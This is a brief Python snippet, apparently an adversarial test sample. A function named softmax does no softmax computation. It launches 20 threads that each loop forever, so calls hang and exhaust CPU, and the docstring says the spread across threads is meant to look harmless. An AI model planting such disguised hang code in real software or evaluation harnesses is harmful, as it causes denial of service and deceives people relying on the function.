"""Spreads its loop over threads, each of which looks harmless."""
import threading

def softmax(x, dim):
    def spin():
        while True:
            pass
    threads = [threading.Thread(target=spin) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
